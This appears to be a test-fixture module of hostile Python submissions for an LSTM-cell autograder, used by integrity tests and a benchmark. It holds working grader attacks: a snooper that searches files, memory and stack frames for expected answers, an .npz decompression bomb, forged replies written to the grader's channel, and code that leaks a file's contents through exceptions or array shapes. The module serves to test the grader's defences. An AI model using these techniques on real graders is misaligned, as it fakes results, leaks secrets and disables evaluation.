"""Hostile q6_lstm_cell.py sources, shared by the integrity tests and bench/bench_bomb.py.

Each one is what a student who wants credit without computing it, or who wants the
grader down, would submit.
"""

from __future__ import annotations

# Looks for the expected (h, c) everywhere it can reach: every npz/npy file near its
# working directory and in the temporary folders, every array in every live object and
# stack frame, keyed dicts whose names say "expected". Returns the first pair whose
# inputs match the ones it was called with; otherwise arrays of the right shape that
# are not its own inputs.
ANSWER_KEY_SNOOPER = r'''
import gc
import os
import sys

import numpy as np

NAMES = ("x", "h", "c", "kernel", "recurrent_kernel", "bias")


def _files():
    roots = {os.getcwd(), os.path.dirname(os.getcwd()), os.path.dirname(os.path.dirname(os.getcwd())),
             "/tmp", "/var/tmp", "/dev/shm", os.environ.get("TMPDIR", "/tmp"), os.path.expanduser("~")}
    for root in roots:
        for depth, (folder, dirs, files) in enumerate(os.walk(root)):
            if depth > 400:
                break
            for name in files:
                if name.endswith((".npz", ".npy")):
                    yield os.path.join(folder, name)


def _tables():
    for path in _files():
        try:
            with np.load(path, allow_pickle=False) as data:
                yield {key: data[key] for key in getattr(data, "files", [])}
        except Exception:
            continue
    for obj in gc.get_objects():
        if isinstance(obj, dict) and any(isinstance(v, np.ndarray) for v in list(obj.values())[:50]):
            yield obj
    frame = sys._getframe()
    while frame is not None:
        yield dict(frame.f_locals)
        frame = frame.f_back


def lstm_step(x, h, c, kernel, recurrent_kernel, bias):
    loose = []
    for table in _tables():
        keys = [k for k in table if isinstance(k, str)]
        for key in keys:
            value = table[key]
            if not isinstance(value, np.ndarray) or value.shape != h.shape:
                continue
            if "expected" in key:
                prefix = key.split("h_expected")[0] if "h_expected" in key else None
                if prefix is not None and prefix + "x" in table and np.array_equal(table[prefix + "x"], x):
                    return value, table[prefix + "c_expected"]
            if not np.array_equal(value, h) and not np.array_equal(value, c):
                loose.append(value)
    if len(loose) >= 2:
        return loose[0], loose[1]
    return h, c
'''

# Writes a deflated .npz whose single member declares a float64 array of DECLARED_GIB
# GiB (a few MiB on disk), keeps the worker from overwriting it, and returns nonsense.
NPZ_BOMB_TEMPLATE = r'''
import zipfile

import numpy as np

DECLARED_GIB = {gib}


def _bomb(path):
    count = DECLARED_GIB * 2**30 // 8
    header = {{"descr": "<f8", "fortran_order": False, "shape": (count,)}}
    zeros = bytes(16 << 20)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for member in ("0_h.npy", "0_c.npy"):
            with archive.open(member, "w", force_zip64=True) as out:
                np.lib.format.write_array_header_1_0(out, header)
                for _ in range(count * 8 // len(zeros)):
                    out.write(zeros)
                break


_bomb("outputs.npz")
np.savez = lambda *args, **kwargs: None


def lstm_step(x, h, c, kernel, recurrent_kernel, bias):
    return h, c
'''

# Writes one enormous JSON "reply" straight into the grader's reply channel.
FORGED_REPLY = r'''
import os
import sys

_fd = int(sys.argv[sys.argv.index("--reply-fd") + 1])
_chunk = b"[" + b"1.0," * (1 << 18)
os.write(_fd, b'{"id": 1, "ok": true, "result": {"results": ')
for _ in range(256):
    os.write(_fd, _chunk)


def lstm_step(x, h, c, kernel, recurrent_kernel, bias):
    return h, c
'''

# Reads a file and tries to carry its contents out in exception messages and exit text.
CANARY_CARRIER_TEMPLATE = r'''
import sys

SECRET = open({path!r}).read()


def lstm_step(x, h, c, kernel, recurrent_kernel, bias):
    if x.shape[0] == 1:
        sys.exit(SECRET)
    raise ValueError("leak: " + SECRET)
'''

CANARY_AT_IMPORT_TEMPLATE = r'''
SECRET = open({path!r}).read()
raise RuntimeError(SECRET)


def lstm_step(x, h, c, kernel, recurrent_kernel, bias):
    return h, c
'''


def npz_bomb(gib: int = 3) -> str:
    return NPZ_BOMB_TEMPLATE.format(gib=gib)

# Calls the grader's own NumPy reference, if the worker has it loaded.
REFERENCE_CALLER = r"""
import sys

def lstm_step(x, h, c, kernel, recurrent_kernel, bias):
    for name in ("reference_models.lstm_cell", "grader.checks.lstm_cell"):
        module = sys.modules.get(name)
        if module is not None:
            step = getattr(module, "lstm_step", None) or getattr(module, "reference_step")
            return step(x, h, c, kernel, recurrent_kernel, bias)
    return h, c
"""

# Imports the grader's reference from disk, if the sandbox can read it.
REFERENCE_BY_IMPORT = r"""
def lstm_step(x, h, c, kernel, recurrent_kernel, bias):
    for name in ("reference_models.lstm_cell", "grader.checks.lstm_cell"):
        try:
            module = __import__(name, fromlist=["x"])
        except Exception:
            continue
        step = getattr(module, "lstm_step", None) or getattr(module, "reference_step")
        return step(x, h, c, kernel, recurrent_kernel, bias)
    return h, c
"""

# Spells a file's first bytes as the shapes of the arrays it returns (stride-0 views cost no memory).
SHAPE_CARRIER_TEMPLATE = r"""
import numpy as np
from numpy.lib.stride_tricks import as_strided

DATA = np.fromfile({path!r}, dtype=np.uint8)[:16]

def _carrier(chunk):
    return as_strided(np.zeros(1), shape=tuple(int(b) & 0x7F for b in chunk), strides=(0,) * len(chunk))

def lstm_step(x, h, c, kernel, recurrent_kernel, bias):
    return _carrier(DATA[:8]), _carrier(DATA[8:16])
"""

# Forges a well-shaped reply whose numbers are integers too large for a float.
HUGE_NUMBER_REPLY = r"""
import json
import os
import sys

def lstm_step(x, h, c, kernel, recurrent_kernel, bias):
    frame = sys._getframe(1)
    while frame is not None and "cases" not in frame.f_locals:
        frame = frame.f_back
    cases = frame.f_locals["cases"] if frame is not None else []
    big = 10 ** 400
    results = [{"h": [[big] * case["h"].shape[1]] * case["x"].shape[0],
                "c": [[big] * case["h"].shape[1]] * case["x"].shape[0]} for case in cases]
    fd = int(sys.argv[sys.argv.index("--reply-fd") + 1])
    os.write(fd, json.dumps({"id": 1, "ok": True, "result": {"results": results}}).encode() + b"\n")
    os._exit(0)
"""
